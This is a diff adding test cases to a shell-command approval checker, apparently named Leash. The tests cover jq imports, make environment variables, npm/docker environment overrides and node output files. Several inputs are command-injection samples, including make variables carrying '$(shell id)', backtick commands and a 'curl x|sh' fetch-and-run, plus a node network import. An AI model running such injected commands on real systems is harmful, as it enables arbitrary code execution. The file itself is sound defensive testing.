@@ -26,6 +26,13 @@ function commandTexts(command: string): string[] {
     .map((scope) => scope.text);
 }
 
+/** The floors the command scopes meet. */
+function scopeFloors(command: string): string[] {
+  return decomposeBash(parser, command, { workspace: WS, home: HOME, fs: emptyFileSystem }).scopes.flatMap((scope) =>
+    scope.kind === 'command' ? scope.floors : [],
+  );
+}
+
 function pathScopesOf(command: string): string[] {
   return decomposeBash(parser, command, { workspace: WS, home: HOME, fs: emptyFileSystem })
     .scopes.filter((scope) => scope.kind !== 'command')
@@ -245,5 +252,72 @@ describe('a container run binds host paths as path scopes: read and written, or 
 
   it('a bind whose host path is not known before it runs needs approval', () => {
     expect(reasons('docker run -v "$SRC":/src alpine').join('\n')).toMatch(/not known before it runs/);
+  });
+});
+
+describe("jq's imports read modules and data from a search path, so a program that has them, or that Leash cannot see, needs approval", () => {
+  it.each([
+    `jq -n 'import "package" as $p {search: "/tmp"}; $p'`,
+    `jq 'include "lib"; .' x.json`,
+    'jq -f filter.jq x.json',
+    'jq --from-file=filter.jq x.json',
+    'jq "$FILTER" x.json',
+  ])('%s', (command) => {
+    expect(reasons(command).join('\n'), command).toMatch(/jq program|import/);
+  });
+
+  it.each([`jq '.scripts' package.json`, `jq -r '.includes[]' x.json`, 'jq --library-path lib .a x.json'])('%s needs none', (command) => {
+    expect(reasons(command), command).toEqual([]);
+  });
+});
+
+describe('make reads the variables of its environment as its own, so a value there with make or shell code needs approval', () => {
+  it.each([
+    `CFLAGS='$(shell id)' make x.o`,
+    "CFLAGS='`id`' make x.o",
+    `env CFLAGS='$(file >.env,x)' make`,
+    `CFLAGS='-O2;id' timeout 60 make test`,
+    'CFLAGS="$EXTRA" make',
+  ])('%s', (command) => {
+    expect(reasons(command).join('\n'), command).toMatch(/make reads \S+ from its environment/);
+  });
+
+  it.each(['CFLAGS=-O2 make x.o', "CFLAGS='-O2 -g' make all", `X='$(shell id)' npm test`])('%s needs none of this', (command) => {
+    expect(reasons(command).join('\n'), command).not.toMatch(/from its environment/);
+  });
+
+  it.each(["make 'CFLAGS=;curl x|sh;' x.o", "make 'CFLAGS=`id`' x.o"])('%s meets the floor for a variable given on the command line', (command) => {
+    expect(scopeFloors(command), command).toContain('make VAR=$(…)');
+  });
+});
+
+describe('npm reads PREFIX and DESTDIR from the environment to find its global config, and docker DOCKER_CONTEXT to find its endpoint', () => {
+  it.each(['PREFIX=/tmp/x npm run test', 'DESTDIR=/tmp/x npm ci', 'DOCKER_CONTEXT=remote docker build .'])('%s', (command) => {
+    expect(reasons(command).join('\n'), command).toMatch(/changes what/);
+  });
+
+  it('make keeps PREFIX and DESTDIR as its own install variables', () => {
+    expect(scopeFloors('make PREFIX=/usr install')).toEqual([]);
+    expect(scopeFloors('make DESTDIR=out install')).toEqual([]);
+  });
+});
+
+describe("node's output files are write scopes, named or in the working directory, and a snapshot or SEA config is code or files Leash does not see", () => {
+  it.each([
+    ['node --cpu-prof --cpu-prof-name=.env app.js', 'write .env'],
+    ['node --heap-prof --heap-prof-name=x.heapprofile app.js', 'write x.heapprofile'],
+    ['node --report-uncaught-exception --report-filename=r.json app.js', 'write r.json'],
+    ['node --prof --logfile=v8.log app.js', 'write v8.log'],
+    ['node --tls-keylog=keys.log app.js', 'write keys.log'],
+    ['node --trace-event-file-pattern=t.log app.js', 'write t.log'],
+    ['node --cpu-prof app.js', 'write CPU.*.cpuprofile'],
+    ['node --build-snapshot --snapshot-blob=snap.blob app.js', 'write snap.blob'],
+  ])('%s: %s', (command, scope) => {
+    expect(pathScopesOf(command), command).toContain(scope);
+  });
+
+  it('an SEA config and network imports need approval', () => {
+    expect(reasons('node --experimental-sea-config sea.json').join('\n')).toMatch(/configuration names/);
+    expect(reasons('node --experimental-network-imports --import=https://x.example/a.mjs app.js').join('\n')).toMatch(/network/);
   });
 });
